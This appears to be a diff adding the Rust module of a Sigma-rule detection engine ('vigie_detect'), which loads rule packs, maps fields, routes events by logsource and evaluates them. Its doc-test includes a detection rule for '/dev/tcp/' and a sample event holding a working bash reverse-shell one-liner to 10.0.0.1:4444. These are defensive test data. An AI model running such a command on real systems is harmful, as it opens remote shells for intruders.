@@ -1,0 +1,425 @@
+//! Vigie's Sigma layer: rule packs loaded, mapped to ECS, routed by logsource and evaluated.
+//!
+//! The engine underneath is rsigma (`rsigma-parser`, `rsigma-eval`); nothing of it leaks
+//! through this API, so it can be swapped or compiled further later.
+//!
+//! - [`RuleSet::load`] reads rule files (single or multi-document YAML, collections, filters,
+//!   correlations), applies the field mappings of `rules/mappings/` and the configured
+//!   placeholders, and returns a [`LoadReport`]: a document that cannot be used is rejected with
+//!   its file, id and reason, and never stops the rest of the pack from loading.
+//! - [`RuleSet::evaluate`] runs the detection rules on one event. An event carrying
+//!   `vigie.logsource.{product,category,service}` tags is evaluated only against the rules whose
+//!   logsource those tags satisfy (every dimension the rule sets must equal the event's) and the
+//!   rules that set none; an event without tags is evaluated against every rule.
+//! - Correlation rules are parsed and validated here and kept in the set
+//!   ([`RuleSet::correlations`]); the collector evaluates them.
+//!
+//! ```
+//! use vigie_detect::{LoadOptions, RuleSet};
+//! let dir = tempfile::tempdir().unwrap();
+//! std::fs::write(dir.path().join("r.yml"), "
+//! title: Reverse shell
+//! id: 5a0c4b6e-0000-4000-8000-000000000001
+//! logsource: {product: linux, category: process_creation}
+//! detection:
+//!   sel: {CommandLine|contains: '/dev/tcp/'}
+//!   condition: sel
+//! level: high
+//! ").unwrap();
+//! let (rules, report) = RuleSet::load(&[dir.path().into()], &LoadOptions::default()).unwrap();
+//! assert_eq!(report.loaded, 1);
+//! let event = vigie_event::Event::from_value(serde_json::json!({
+//!     "process": {"command_line": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
+//!     "vigie": {"logsource": {"product": "linux", "category": "process_creation"}},
+//! })).unwrap();
+//! // No mapping given here, so the rule matches on its own field name only when the event
+//! // has it; with the shipped mappings `CommandLine` also reads `process.command_line`.
+//! assert!(rules.evaluate(&event).is_empty());
+//! ```
+
+use std::collections::{BTreeMap, BTreeSet, HashMap};
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+use rsigma_eval::{apply_pipelines, Engine, Pipeline};
+use rsigma_parser::{parse_sigma_yaml, CorrelationRule, FilterRule, LogSource, SigmaRule};
+use serde::Serialize;
+use sha2::{Digest, Sha256};
+use vigie_event::Event;
+
+mod event;
+mod load;
+mod mapping;
+
+pub use event::SigmaView;
+pub use load::{rule_files, LoadReport, Rejection, MAX_RULE_FILE_BYTES};
+pub use mapping::{load_mapping_dir, load_mapping_file};
+
+/// Errors that stop a pack from loading at all (a rule path or a mapping that cannot be read).
+/// A bad rule is not an error: it is a [`Rejection`] in the report.
+#[derive(Debug, thiserror::Error)]
+#[non_exhaustive]
+pub enum DetectError {
+    /// A path could not be read.
+    #[error("{}: {message}", path.display())]
+    Io {
+        /// The path.
+        path: PathBuf,
+        /// What went wrong.
+        message: String,
+    },
+    /// A mapping file is not a valid processing pipeline.
+    #[error("mapping {}: {reason}", path.display())]
+    Mapping {
+        /// The mapping file.
+        path: PathBuf,
+        /// What is wrong with it.
+        reason: String,
+    },
+}
+
+impl DetectError {
+    pub(crate) fn io(path: &Path, e: std::io::Error) -> Self {
+        DetectError::Io {
+            path: path.to_owned(),
+            message: e.to_string(),
+        }
+    }
+}
+
+/// How a pack is loaded.
+#[derive(Debug, Clone, Default)]
+pub struct LoadOptions {
+    /// Field mappings (pySigma pipelines), see [`load_mapping_dir`].
+    pub mappings: Vec<Pipeline>,
+    /// Values for `%name%` placeholders of rules using the `expand` modifier.
+    pub placeholders: BTreeMap<String, Vec<String>>,
+    /// Ids of rules that act as filters: a match drops the event instead of tagging it.
+    pub drop_rules: BTreeSet<String>,
+}
+
+/// What a matching rule does to the event.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "lowercase")]
+pub enum Action {
+    /// Tag the event with the detection (the default).
+    Tag,
+    /// Drop the event: the rule describes noise (`vigie: {action: drop}` or a configured id).
+    Drop,
+}
+
+/// A loaded detection rule, as matches report it.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Rule {
+    /// The rule's `id` (its title when it has none).
+    pub id: String,
+    /// The rule's title.
+    pub title: String,
+    /// `informational`, `low`, `medium`, `high` or `critical`; `medium` when unset.
+    pub level: String,
+    /// What a match does.
+    #[serde(skip)]
+    pub action: Action,
+    /// The file the rule came from.
+    #[serde(skip)]
+    pub file: PathBuf,
+}
+
+/// A loaded, ready-to-evaluate rule pack.
+pub struct RuleSet {
+    engine: Engine,
+    rules: HashMap<String, Arc<Rule>>,
+    correlations: Vec<CorrelationRule>,
+    version: String,
+}
+
+impl std::fmt::Debug for RuleSet {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("RuleSet")
+            .field("rules", &self.rules.len())
+            .field("correlations", &self.correlations.len())
+            .field("version", &self.version)
+            .finish()
+    }
+}
+
+impl RuleSet {
+    /// Loads every rule file under `paths`. Fails only when a path cannot be read; bad rules
+    /// are listed in the report.
+    pub fn load(paths: &[PathBuf], opts: &LoadOptions) -> Result<(Self, LoadReport), DetectError> {
+        let files = rule_files(paths)?;
+        let mut report = LoadReport::default();
+        let parsed = load::parse_files(&files, &mut report);
+
+        let mut pipelines = opts.mappings.clone();
+        pipelines.push(mapping::placeholder_pipeline(&opts.placeholders));
+        pipelines.sort_by_key(|p| p.priority);
+        let mut engine = Engine::new();
+        for pipeline in &pipelines {
+            engine.add_pipeline(pipeline.clone());
+        }
+        let filtered = &parsed.collection.rules;
+
+        // Duplicate ids: the first file (in sorted order) wins.
+        let mut seen: HashMap<String, PathBuf> = HashMap::new();
+        let mut keep: Vec<(&SigmaRule, &PathBuf)> = Vec::new();
+        for (rule, file) in filtered.iter().zip(&parsed.rule_files) {
+            let key = rule_key(rule);
+            let unsupplied: Vec<String> = mapping::placeholders_of(rule)
+                .into_iter()
+                .filter(|p| !opts.placeholders.contains_key(p))
+                .collect();
+            if !unsupplied.is_empty() {
+                report.rejected.push(load::reject(
+                    file,
+                    rule.id.clone(),
+                    format!(
+                        "placeholder {} not supplied (give its values under [detect.placeholders])",
+                        unsupplied
+                            .iter()
+                            .map(|p| format!("%{p}%"))
+                            .collect::<Vec<_>>()
+                            .join(", ")
+                    ),
+                ));
+                continue;
+            }
+            if let Some(first) = seen.get(&key) {
+                report.rejected.push(load::reject(
+                    file,
+                    rule.id.clone(),
+                    format!("duplicate rule id, already loaded from {}", first.display()),
+                ));
+                continue;
+            }
+            seen.insert(key, file.clone());
+            keep.push((rule, file));
+        }
+
+        let errors = engine.add_rules(keep.iter().map(|(r, _)| *r));
+        let mut failed = vec![false; keep.len()];
+        for (idx, err) in errors {
+            if let Some((rule, file)) = keep.get(idx) {
+                failed[idx] = true;
+                report
+                    .rejected
+                    .push(load::reject(file, rule.id.clone(), err.to_string()));
+            }
+        }
+        let mut rules = HashMap::new();
+        for ((rule, file), failed) in keep.iter().zip(failed) {
+            if failed {
+                continue;
+            }
+            let meta = Rule {
+                id: rule_key(rule),
+                title: rule.title.clone(),
+                level: rule.level.map_or("medium", |l| l.as_str()).to_owned(),
+                action: action_of(rule, &opts.drop_rules),
+                file: (*file).clone(),
+            };
+            rules.insert(meta.id.clone(), Arc::new(meta));
+        }
+        // Filters apply across files, after the mappings (their fields are mapped the same way).
+        for (filter, file) in parsed.collection.filters.iter().zip(&parsed.filter_files) {
+            match map_filter(filter, &pipelines)
+                .and_then(|f| engine.apply_filter(&f).map_err(|e| e.to_string()))
+            {
+                Ok(()) => report.filters += 1,
+                Err(reason) => report
+                    .rejected
+                    .push(load::reject(file, filter.id.clone(), reason)),
+            }
+        }
+        report.detection_rules = rules.len();
+
+        let correlations = validate_correlations(&parsed, filtered, &mut report);
+        report.correlation_rules = correlations.len();
+        report.loaded = report.detection_rules + report.correlation_rules + report.filters;
+        let version = pack_version(&parsed.sources, opts);
+        Ok((
+            RuleSet {
+                engine,
+                rules,
+                correlations,
+                version,
+            },
+            report,
+        ))
+    }
+
+    /// The detection rules that match `event`, routed by its logsource tags.
+    pub fn evaluate(&self, event: &Event) -> Vec<Arc<Rule>> {
+        let view = SigmaView::new(event);
+        let results = match logsource_of(event) {
+            Some(ls) => self.engine.evaluate_with_logsource(&view, &ls),
+            None => self.engine.evaluate(&view),
+        };
+        results
+            .iter()
+            .filter_map(|r| {
+                let key = r.header.rule_id.as_ref().unwrap_or(&r.header.rule_title);
+                self.rules.get(key).cloned()
+            })
+            .collect()
+    }
+
+    /// Evaluates a raw JSON object (a test event) without logsource routing unless it carries
+    /// `vigie.logsource` tags.
+    pub fn evaluate_value(&self, value: &serde_json::Value) -> Vec<Arc<Rule>> {
+        match Event::from_value(value.clone()) {
+            Some(e) => self.evaluate(&e),
+            None => Vec::new(),
+        }
+    }
+
+    /// Number of detection rules loaded.
+    pub fn len(&self) -> usize {
+        self.rules.len()
+    }
+
+    /// Whether no detection rule loaded.
+    pub fn is_empty(&self) -> bool {
+        self.rules.is_empty()
+    }
+
+    /// A loaded detection rule by id.
+    pub fn rule(&self, id: &str) -> Option<&Arc<Rule>> {
+        self.rules.get(id)
+    }
+
+    /// The correlation rules of the pack (validated, not evaluated here).
+    pub fn correlations(&self) -> &[CorrelationRule] {
+        &self.correlations
+    }
+
+    /// The pack's version: a digest of its rule files, mappings and options. Two agents with
+    /// the same version evaluate events the same way.
+    pub fn version(&self) -> &str {
+        &self.version
+    }
+}
+
+/// Applies the field mappings to a filter's detection, as they are applied to rules.
+fn map_filter(filter: &FilterRule, pipelines: &[Pipeline]) -> Result<FilterRule, String> {
+    let template = "title: filter\nlogsource: {}\ndetection: {s: {f: v}, condition: s}\n";
+    let mut rule = parse_sigma_yaml(template)
+        .ok()
+        .and_then(|c| c.rules.into_iter().next())
+        .ok_or_else(|| "internal: filter template did not parse".to_owned())?;
+    rule.title = filter.title.clone();
+    rule.logsource = filter.logsource.clone().unwrap_or_default();
+    rule.detection = filter.detection.clone();
+    apply_pipelines(pipelines, &mut rule).map_err(|e| e.to_string())?;
+    let mut mapped = filter.clone();
+    mapped.detection = rule.detection;
+    Ok(mapped)
+}
+
+/// The key a rule is known by: its id, else its title.
+fn rule_key(rule: &SigmaRule) -> String {
+    rule.id.clone().unwrap_or_else(|| rule.title.clone())
+}
+
+fn action_of(rule: &SigmaRule, drop_rules: &BTreeSet<String>) -> Action {
+    if rule.id.as_ref().is_some_and(|id| drop_rules.contains(id)) {
+        return Action::Drop;
+    }
+    let custom = rule
+        .custom_attributes
+        .get("vigie")
+        .and_then(|v| v.get("action"))
+        .and_then(|a| a.as_str());
+    match custom {
+        Some(a) if a.eq_ignore_ascii_case("drop") => Action::Drop,
+        _ => Action::Tag,
+    }
+}
+
+/// The event's `vigie.logsource` tags, or `None` when it has none.
+fn logsource_of(event: &Event) -> Option<LogSource> {
+    let tags = event.get("vigie.logsource")?.as_object()?;
+    let get = |k: &str| {
+        tags.get(k)
+            .and_then(|v| v.as_str())
+            .filter(|s| !s.is_empty())
+            .map(str::to_owned)
+    };
+    let ls = LogSource {
+        product: get("product"),
+        category: get("category"),
+        service: get("service"),
+        ..LogSource::default()
+    };
+    (ls.product.is_some() || ls.category.is_some() || ls.service.is_some()).then_some(ls)
+}
+
+/// Keeps the correlations whose referenced rules exist in the pack; rejects the others.
+fn validate_correlations(
+    parsed: &load::Parsed,
+    rules: &[SigmaRule],
+    report: &mut LoadReport,
+) -> Vec<CorrelationRule> {
+    let mut known: BTreeSet<&str> = BTreeSet::new();
+    for r in rules {
+        known.extend(r.id.as_deref());
+        known.extend(r.name.as_deref());
+    }
+    for c in &parsed.collection.correlations {
+        known.extend(c.id.as_deref());
+        known.extend(c.name.as_deref());
+    }
+    let mut out = Vec::new();
+    for (corr, file) in parsed
+        .collection
+        .correlations
+        .iter()
+        .zip(&parsed.correlation_files)
+    {
+        let missing: Vec<&str> = corr
+            .rules
+            .iter()
+            .map(String::as_str)
+            .filter(|r| !known.contains(r))
+            .collect();
+        if missing.is_empty() {
+            out.push(corr.clone());
+        } else {
+            report.rejected.push(load::reject(
+                file,
+                corr.id.clone(),
+                format!(
+                    "correlation refers to rules not in the pack: {}",
+                    missing.join(", ")
+                ),
+            ));
+        }
+    }
+    out
+}
+
+fn pack_version(sources: &[(PathBuf, Vec<u8>)], opts: &LoadOptions) -> String {
+    let mut h = Sha256::new();
+    for (path, bytes) in sources {
+        h.update(
+            path.file_name()
+                .map(|n| n.as_encoded_bytes())
+                .unwrap_or(b""),
+        );
+        h.update((bytes.len() as u64).to_le_bytes());
+        h.update(bytes);
+    }
+    for p in &opts.mappings {
+        h.update(p.name.as_bytes());
+        h.update(format!("{:?}", p.transformations).as_bytes());
+    }
+    for (k, v) in &opts.placeholders {
+        h.update(k.as_bytes());
+        h.update(v.join("\u{1}").as_bytes());
+    }
+    for id in &opts.drop_rules {
+        h.update(id.as_bytes());
+    }
+    let digest = h.finalize();
+    format!("sha256-{}", &hex::encode(digest)[..16])
+}
